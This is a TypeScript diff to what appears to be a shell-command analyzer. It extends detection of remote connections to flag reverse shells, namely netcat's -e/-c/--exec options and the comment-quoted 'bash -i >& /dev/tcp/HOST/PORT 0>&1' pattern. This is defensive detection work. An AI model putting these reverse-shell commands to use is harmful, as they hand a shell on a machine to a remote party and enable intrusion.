@@ -1,6 +1,7 @@
 // Connections to other machines whose content is kept: nc, ssh, `/dev/tcp`, HTTPie and browsers for terminals.
 import type { Value } from '../../model/value.ts';
 import { readOptions } from '../../shell/options.ts';
+import { isPosixShell } from '../../shell/shells.ts';
 import { format, join, known } from '../../value.ts';
 import { downloads, streamed, written } from './download.ts';
 import { type Fetch, type Fetcher, fileNameOf } from './fetch.ts';
@@ -10,25 +11,29 @@ export const remoteOutput: Fetcher = (command, stage) => {
   const isSsh = command.name === 'ssh';
   const valued = isSsh
     ? ['-i', '-p', '-o', '-F', '-l', '-J', '-c', '-L', '-R', '-D']
-    : ['-w', '-q', '-i', '-p', '-s'];
-  const { operands, flags, unknown } = readOptions(command.invocation.argv.slice(1), {
+    : ['-w', '-q', '-i', '-p', '-s', ...HANDS_OVER];
+  const { operands, flags, unknown, values } = readOptions(command.invocation.argv.slice(1), {
     valued,
     flags: ['-z', '-l', '-N'],
   });
   const [host, port] = operands;
   if (host === undefined || port === undefined || ['-z', '-l', '-N'].some((flag) => flags.has(flag)))
     return [];
-  if (unknown.length > 0 && !isSsh) return [];
+  // `-e /bin/sh`: the other side types the commands.
+  const isRun = !isSsh && HANDS_OVER.some((option) => values.has(option));
+  if (unknown.length > 0 && !isSsh && !isRun) return [];
   const output = streamed(command, stage);
-  const isKept = output.kind === 'file' || command.after.length > 0;
+  const isKept = isRun || output.kind === 'file' || command.after.length > 0;
   if (!isKept || (!isSsh && !/^\d+$/.test(known(port.value) ?? ''))) return [];
   const source = isSsh ? join(['ssh://', host.value]) : join(['tcp://', host.value, ':', port.value]);
   return downloads(command, stage, [{ ...host, value: source }], {
     plain: 'no',
     weakened: [],
     output: () => output,
-  });
+  }).map((fetch): Fetch => (isRun ? { ...fetch, probe: false, pipedToShell: true } : fetch));
 };
+
+const HANDS_OVER = ['-e', '-c', '--exec', '--sh-exec'];
 
 /** bash's `/dev/tcp/HOST/PORT`: a connection without anything that shows who answers. */
 export const rawConnection: Fetcher = (command, stage) => {
@@ -36,13 +41,15 @@ export const rawConnection: Fetcher = (command, stage) => {
   if (first === undefined) return [];
   return command.invocation.redirects.flatMap(({ operator, target }) => {
     const place = /^\/dev\/(tcp|udp)\/(.+)$/.exec(format(target));
-    if (place === null || !operator.startsWith('<')) return [];
+    // `bash -i >& /dev/tcp/HOST/PORT 0>&1`: a shell for whoever answers there.
+    const isShell = isPosixShell(command.name) && operator.includes('&');
+    if (place === null || !(operator.startsWith('<') || isShell)) return [];
     const source: Value = [`${place[1]}://${(place[2] ?? '').replace('/', ':')}`];
     return downloads(command, stage, [{ ...first, value: source }], {
       plain: 'no',
       weakened: [],
       output: () => streamed(command, stage),
-    }).map((fetch): Fetch => ({ ...fetch, probe: false }));
+    }).map((fetch): Fetch => ({ ...fetch, probe: false, pipedToShell: fetch.pipedToShell || isShell }));
   });
 };
 
